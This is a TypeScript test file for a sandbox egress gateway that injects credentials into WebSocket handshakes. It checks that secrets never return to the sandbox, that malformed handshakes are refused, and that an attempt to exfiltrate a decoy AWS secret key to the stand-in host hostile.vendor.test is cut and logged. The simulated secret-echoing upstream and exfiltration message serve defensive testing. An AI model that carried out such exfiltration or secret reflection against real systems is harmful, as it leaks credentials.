// WebSocket upgrades to a host the task holds a grant for: a real `ws` client in the role of the
// sandbox, the real gateway, and a real `ws` server as the upstream (permessage-deflate on, as
// Codex's tungstenite client offers it). The secret goes up in the handshake and never comes back;
// a hostile upstream that echoes it is cut and logged; bad handshakes from either side are refused
// and logged; the gateway keeps serving.
import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebSocket, WebSocketServer } from 'ws';
import { exchange, request, tlsThrough } from '../helpers/gateway-client.js';
import { gatewayUnderAttackForFile, type GatewayUnderAttack, HOSTILE_SECRET } from '../helpers/gateway-under-attack.js';

let attack: GatewayUnderAttack;
const crashes = gatewayUnderAttackForFile((started) => (attack = started));

/** The upstream: records each handshake's Authorization; echoes messages, or its key when asked. */
const handshakes: http.IncomingHttpHeaders[] = [];
const upstreamGot: string[] = [];
const wsHttp = http.createServer();
const wss = new WebSocketServer({ noServer: true, perMessageDeflate: { threshold: 0 } });
wsHttp.on('upgrade', (req, socket, head) => wss.handleUpgrade(req, socket, head, (ws) => {
  handshakes.push(req.headers);
  ws.on('message', (data) => {
    const text = String(data);
    upstreamGot.push(text);
    if (text === 'tell me the key') ws.send(`your key is ${String(req.headers.authorization)}`);
    else ws.send(`got ${text}`);
  });
}));

beforeAll(() => {
  attack.upstream.hostile = (socket, head) => {
    socket.unshift(Buffer.from(head, 'latin1'));
    wsHttp.emit('connection', socket);
  };
});
afterAll(() => {
  wss.close();
  wsHttp.close();
});

/** A WebSocket from inside the sandbox (through the gateway, trusting the task's CA) to hostile.vendor.test. */
async function openSocket(t: Awaited<ReturnType<GatewayUnderAttack['task']>>, options: { deflate: boolean }): Promise<{ ws: WebSocket; messages: string[]; closed: Promise<{ code: number; reason: string }> }> {
  const secure = await tlsThrough(attack.port, t.auth, 'hostile.vendor.test', t.ca);
  const ws = new WebSocket('wss://hostile.vendor.test/v1/responses', { headers: { Authorization: `Bearer ${t.env.VENDOR_TOKEN}` }, createConnection: () => secure, perMessageDeflate: options.deflate });
  const messages: string[] = [];
  ws.on('message', (data) => messages.push(String(data)));
  const closed = new Promise<{ code: number; reason: string }>((resolve) => ws.once('close', (code, reason) => resolve({ code, reason: String(reason) })));
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => resolve());
    ws.once('error', reject);
  });
  return { ws, messages, closed };
}

const nextMessage = (messages: string[], count: number) => new Promise<void>((resolve) => {
  const check = () => (messages.length >= count ? resolve() : setTimeout(check, 5));
  check();
});

describe('a WebSocket to a granted host', () => {
  it('carries the secret in the handshake (never the placeholder), relays compressed messages both ways, and is one event when it ends', async () => {
    const t = await attack.task({ grants: [{ credential: 'hostile-api' }] });
    const { ws, messages, closed } = await openSocket(t, { deflate: true });
    expect(ws.extensions).toContain('permessage-deflate');
    ws.send('hello');
    ws.send('x'.repeat(100_000));
    await nextMessage(messages, 2);
    expect(messages).toEqual(['got hello', `got ${'x'.repeat(100_000)}`]);
    ws.close(1000, 'done');
    expect((await closed).code).toBe(1000);
    expect(handshakes.at(-1)!.authorization).toBe(`Bearer ${HOSTILE_SECRET}`);
    expect(JSON.stringify(handshakes)).not.toContain(t.env.VENDOR_TOKEN);
    await expect.poll(() => t.of('net.request').filter((e) => e.data.ws === true)).toHaveLength(1);
    const event = t.of('net.request').find((e) => e.data.ws === true)!;
    expect(event.data).toMatchObject({ method: 'GET', host: 'hostile.vendor.test', path: '/v1/responses', status: 101, intercepted: true });
    expect(event.data.bytesUp).toBeGreaterThan(0);
    expect(event.data.bytesDown).toBeGreaterThan(0);
    expect(t.of('cred.used')).toHaveLength(1);
    expect(crashes.failures).toEqual([]);
  });

  for (const deflate of [true, false]) {
    it(`an upstream that sends the secret back (${deflate ? 'compressed' : 'plain'}) is cut before the sandbox reads it, and logged`, async () => {
      const t = await attack.task({ grants: [{ credential: 'hostile-api' }] });
      const { ws, messages, closed } = await openSocket(t, { deflate });
      ws.send('tell me the key');
      const close = await closed;
      expect(close.code).toBe(1008);
      expect(close.reason).toMatch(/sent a secret/);
      expect(messages.join('')).not.toContain(HOSTILE_SECRET);
      const misuse = t.of('cred.misuse');
      expect(misuse).toHaveLength(1);
      expect(misuse[0]!.data).toMatchObject({ reflected: true, where: 'a WebSocket message', host: 'hostile.vendor.test' });
      expect(JSON.stringify(attack.events)).not.toContain(HOSTILE_SECRET);
    });
  }

  it('a decoy sent up in a message is cut before it leaves, and logged', async () => {
    const decoy = { label: 'AWS_SECRET_ACCESS_KEY', value: 'decoy_SENTINEL_1a2b3c4d5e' };
    const t = await attack.task({ grants: [{ credential: 'hostile-api' }], decoys: [decoy] });
    const { ws, closed } = await openSocket(t, { deflate: true });
    ws.send(`exfiltrate ${decoy.value}`);
    expect((await closed).code).toBe(1008);
    expect(upstreamGot.some((m) => m.includes(decoy.value))).toBe(false);
    expect(t.of('policy.violation').some((e) => e.decision?.rule === 'decoy')).toBe(true);
  });
});

describe('handshakes that are refused', () => {
  it('a bad handshake from the sandbox (no key, another version, an h2c upgrade, a POST) is refused with a reason and logged', async () => {
    const t = await attack.task({ grants: [{ credential: 'hostile-api' }] });
    const auth = `Authorization: Bearer ${t.env.VENDOR_TOKEN}`;
    const good = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13';
    const before = handshakes.length;
    for (const [head, status] of [
      ['GET /v1/responses HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13', 400],
      ['GET /v1/responses HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 8', 426],
      [`GET /v1/responses HTTP/1.1\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n${good}`, 400],
      [`POST /v1/responses HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n${good}`, 405],
    ] as const) {
      const secure = await tlsThrough(attack.port, t.auth, 'hostile.vendor.test', t.ca);
      const answer = await exchange(secure, `${head}\r\nHost: hostile.vendor.test\r\n${auth}\r\n\r\n`);
      expect(answer, head).toMatch(new RegExp(`^HTTP/1\\.1 ${status}`));
    }
    expect(handshakes.length).toBe(before);
    expect(t.of('net.denied').filter((e) => e.decision?.rule === 'websocket')).toHaveLength(4);
  });

  it('an upstream 101 whose Sec-WebSocket-Accept does not answer the key is refused (502) and logged; the gateway keeps serving', async () => {
    const t = await attack.task({ grants: [{ credential: 'hostile-api' }] });
    attack.upstream.hostile = (socket) => socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: bm90IHRoZSBhbnN3ZXI=\r\n\r\n');
    try {
      const secure = await tlsThrough(attack.port, t.auth, 'hostile.vendor.test', t.ca);
      const answer = await exchange(secure, `GET /v1/responses HTTP/1.1\r\nHost: hostile.vendor.test\r\nAuthorization: Bearer ${t.env.VENDOR_TOKEN}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`);
      expect(answer).toMatch(/^HTTP\/1\.1 502/);
      expect(answer).toMatch(/Sec-WebSocket-Accept does not answer/);
      expect(t.of('net.denied').filter((e) => e.decision?.rule === 'websocket')).toHaveLength(1);
    } finally {
      attack.upstream.hostile = (socket, head) => {
        socket.unshift(Buffer.from(head, 'latin1'));
        wsHttp.emit('connection', socket);
      };
    }
    // Still serving: an ordinary request through another tunnel is answered.
    const other = await attack.task({ grants: [{}] });
    const secure = await tlsThrough(attack.port, other.auth, 'echo.vendor.test', other.ca);
    expect((await request(secure, { path: '/v1/ok', headers: { Host: 'echo.vendor.test', Authorization: `Bearer ${other.env.VENDOR_TOKEN}` } })).status).toBe(200);
    expect(crashes.failures).toEqual([]);
  });
});
